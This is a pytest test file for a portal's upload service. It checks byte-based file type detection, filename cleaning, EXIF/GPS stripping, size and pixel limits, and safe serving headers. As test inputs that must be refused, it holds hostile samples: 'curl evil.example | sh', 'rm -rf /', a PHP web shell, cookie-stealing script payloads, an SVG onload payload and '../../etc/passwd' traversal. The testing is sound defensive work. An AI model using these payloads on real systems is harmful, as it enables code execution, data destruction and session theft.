"""Attachments: the real type from the bytes, refusals with a message and no stored file, metadata stripped."""

from __future__ import annotations

import io
import zipfile

import pytest
from bulletin_helpers import spokesperson
from conftest import ask
from PIL import Image
from press_helpers import attachments, new_release, stored_files, upload

from portal.services.press import uploads
from portal.services.press.demo_press import minimal_pdf

GPS_IFD = 0x8825


def jpeg_with_gps(size=(640, 480), orientation: int | None = None) -> bytes:
    img = Image.new("RGB", size, (200, 120, 40))
    exif = Image.Exif()
    exif[0x010F] = "TestCam"  # Make
    exif[0x0131] = "secret-editor"  # Software
    if orientation:
        exif[0x0112] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (30.0, 15.0, 12.5)
    gps[3] = "E"
    gps[4] = (120.0, 9.0, 30.0)
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif)
    data = out.getvalue()
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(GPS_IFD), "the fixture must really carry GPS data"
    return data


def png_bytes(size=(300, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, "PNG")
    return out.getvalue()


def webp_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (50, 40), "blue").save(out, "WEBP")
    return out.getvalue()


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "转移人数"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def docx_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


@pytest.fixture
def desk(app, staff):
    client = spokesperson(app)
    _response, release_id = new_release(app, client)
    return client, release_id


# ---- type detection (unit) ------------------------------------------------------------------------------


def test_sniff_reads_the_bytes_not_the_name():
    assert uploads.sniff(jpeg_with_gps()) == "jpg"
    assert uploads.sniff(png_bytes()) == "png"
    assert uploads.sniff(webp_bytes()) == "webp"
    assert uploads.sniff(minimal_pdf("x", [])) == "pdf"
    assert uploads.sniff(xlsx_bytes()) == "xlsx"
    assert uploads.sniff(docx_bytes()) == "docx"
    assert uploads.sniff(b"#!/bin/sh\nrm -rf /\n") is None
    assert uploads.sniff(b"<!doctype html><script>alert(1)</script>") is None
    assert uploads.sniff(b"RIFF\x00\x00\x00\x00WAVEfmt ") is None
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as zf:
        zf.writestr("evil.js", "alert(1)")
    assert uploads.sniff(plain_zip.getvalue()) is None
    assert uploads.sniff(b"PK\x03\x04 not really a zip") is None


def test_clean_filename_keeps_the_name_and_takes_the_real_extension():
    assert uploads.clean_filename("C:\\Users\\x\\统计表.PDF", "pdf") == "统计表.pdf"
    assert uploads.clean_filename("../../etc/passwd", "pdf") == "passwd.pdf"
    assert uploads.clean_filename('a"<b>.jpg', "png") == "a_b.png"
    assert uploads.clean_filename("", "docx") == "附件.docx"


# ---- refusals through the console -----------------------------------------------------------------------


@pytest.mark.parametrize(("data", "name", "claimed"), [
    (b"#!/bin/sh\ncurl evil.example | sh\n", "photo.jpg", "image/jpeg"),
    (b"<?php system($_GET['c']); ?>", "现场.jpg", "image/jpeg"),
    (b"<!doctype html><html><script>alert(document.cookie)</script></html>", "通知.pdf", "application/pdf"),
    (b"MZ\x90\x00\x03 windows program", "table.xlsx",
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    (b"GIF89a\x01\x00\x01\x00", "anim.gif", "image/gif"),
    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "logo.png", "image/png"),
])
def test_disguised_files_are_refused_with_a_message_and_nothing_is_stored(app, desk, data, name, claimed):
    client, release_id = desk
    response = upload(client, release_id, data, name, claimed)
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "不支持这种文件" in page and "改扩展名无效" in page
    assert attachments(app) == [] and stored_files(app) == []


def test_a_corrupt_image_with_a_real_signature_is_refused(app, desk):
    client, release_id = desk
    response = upload(client, release_id, b"\xff\xd8\xff\xe0" + b"\x00" * 200, "broken.jpg", "image/jpeg")
    assert response.status_code == 400
    assert "图片已损坏" in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_oversized_upload_is_refused_with_a_message(make_app, staff):
    app = make_app(UPLOAD_MAX_BYTES=20_000)
    client = spokesperson(app)
    _r, release_id = new_release(app, client)
    # Over the limit but within the form's slack: the service refuses it after reading.
    pdf = minimal_pdf("big", [("x", "y" * 60)]) + b"%" + b"0" * 30_000
    response = upload(client, release_id, pdf, "big.pdf", "application/pdf")
    assert response.status_code == 400
    assert "文件过大" in response.get_data(as_text=True)
    # Far over the limit: refused from the Content-Length, before the body is read.
    response = upload(client, release_id, b"%PDF-1.4\n" + b"0" * 2_000_000, "huge.pdf", "application/pdf")
    assert response.status_code == 413
    assert "文件过大" in response.get_data(as_text=True) and "0.0 MB" not in response.get_data(as_text=True)
    assert attachments(app) == [] and stored_files(app) == []


def test_upload_route_alone_accepts_more_than_the_site_wide_limit(app, desk):
    client, release_id = desk
    big = minimal_pdf("big", []) + b"%" + b"0" * (3 * 1024 * 1024)
    assert upload(client, release_id, big, "report.pdf", "application/pdf").status_code == 303
    assert attachments(app)[0].size == len(big)
    # Elsewhere the 1 MiB request limit still holds.
    response = ask(app.test_client(), body="很长的留言" * 300_000)
    assert response.status_code == 413


# ---- what is stored and served --------------------------------------------------------------------------


def test_exif_gps_is_gone_from_a_stored_photo(app, desk):
    client, release_id = desk
    original = jpeg_with_gps(size=(1600, 1200), orientation=6)
    response = upload(client, release_id, original, "现场照片.jpeg", "image/jpeg", caption="现场")
    assert response.status_code == 303
    (att,) = attachments(app)
    assert (att.kind, att.mime, att.filename) == ("image", "image/jpeg", "现场照片.jpg")
    for stored in (att.stored_name, att.rendition_name):
        data = (app.config["UPLOAD_DIR"] + "/" + stored)
        raw = open(data, "rb").read()
        img = Image.open(io.BytesIO(raw))
        exif = img.getexif()
        assert not exif.get_ifd(GPS_IFD) and GPS_IFD not in exif and len(exif) == 0
        assert b"Exif" not in raw and b"TestCam" not in raw and b"secret-editor" not in raw
    # The orientation was applied to the pixels (6 = rotate 90°), so the photo still stands the right way up.
    assert (att.width, att.height) == (1200, 1600)
    served = app.test_client().get(f"/attachments/{att.id}/{att.filename}")
    assert served.status_code == 200 and b"Exif" not in served.data


def test_images_get_a_phone_rendition_and_documents_are_downloads(app, desk):
    client, release_id = desk
    assert upload(client, release_id, png_bytes((2400, 1200)), "图.png", "image/png").status_code == 303
    assert upload(client, release_id, webp_bytes(), "小图.webp", "image/webp").status_code == 303
    assert upload(client, release_id, xlsx_bytes(), "统计.xlsx", "text/plain").status_code == 303
    assert upload(client, release_id, docx_bytes(), "说明.docx", "").status_code == 303
    assert upload(client, release_id, minimal_pdf("t", []), "通报.pdf", "application/pdf").status_code == 303
    png, webp, xlsx, docx, pdf = attachments(app)
    anon = app.test_client()
    small = anon.get(f"/attachments/{png.id}/m/{png.filename}")
    assert small.status_code == 200 and max(Image.open(io.BytesIO(small.data)).size) == 800
    assert webp.rendition_name is None  # already small: the original serves phones too
    for att, disposition in [(png, "inline"), (webp, "inline"), (xlsx, "attachment"), (docx, "attachment"),
                             (pdf, "attachment")]:
        r = anon.get(f"/attachments/{att.id}/{att.filename}")
        assert r.status_code == 200
        assert r.headers["Content-Type"] == uploads.MIME[att.filename.rsplit(".", 1)[1]]
        assert r.headers["Content-Disposition"].startswith(disposition) and "filename*=UTF-8''" in \
            r.headers["Content-Disposition"]
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        assert "public" in r.headers["Cache-Control"] and "max-age=300" in r.headers["Cache-Control"]
        assert "sandbox" in r.headers["Content-Security-Policy"]
        assert "Set-Cookie" not in r.headers and r.headers.get("ETag")
        assert anon.get(f"/attachments/{att.id}/x", headers={"If-None-Match": r.headers["ETag"]}).status_code == 304
    # Files live outside the static folder, under random names.
    assert not app.config["UPLOAD_DIR"].startswith(app.static_folder)
    assert all(len(a.stored_name) == 32 + 1 + len(a.stored_name.rsplit(".", 1)[1]) for a in attachments(app))
    page = anon.get(f"/news/{_slug(app, release_id)}").get_data(as_text=True)
    assert f"/attachments/{png.id}/m/" in page and "统计.xlsx" in page


def _slug(app, release_id):
    from press_helpers import release_row

    return release_row(app, release_id).slug


def test_attachments_of_a_scheduled_release_stay_private(app, staff):
    from datetime import timedelta

    from bulletin_helpers import local

    from portal.timeutil import utcnow

    client = spokesperson(app)
    _r, release_id = new_release(app, client, when="later", publish_at=local(utcnow() + timedelta(hours=2)))
    assert upload(client, release_id, png_bytes(), "a.png", "image/png").status_code == 303
    (att,) = attachments(app)
    assert app.test_client().get(f"/attachments/{att.id}/{att.filename}").status_code == 404
    assert app.test_client().get("/attachments/999/x.png").status_code == 404


def test_an_image_with_too_many_pixels_is_refused_before_decoding(app, desk):
    client, release_id = desk
    out = io.BytesIO()
    Image.new("1", (8000, 7000)).save(out, "PNG")  # 56 megapixels in a few kilobytes
    response = upload(client, release_id, out.getvalue(), "bomb.png", "image/png")
    assert response.status_code == 400 and "像素过多" in response.get_data(as_text=True)
    assert stored_files(app) == []


def test_palette_png_keeps_its_transparency():
    img = Image.new("P", (1000, 10))
    img.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    img.info["transparency"] = 0
    out = io.BytesIO()
    img.save(out, "PNG", transparency=0)
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        stored = uploads.store(out.getvalue(), "t.png", folder, 10**7)
        again = Image.open(f"{folder}/{stored.stored_name}")
        assert again.mode == "RGBA" and again.getpixel((0, 0))[3] == 0
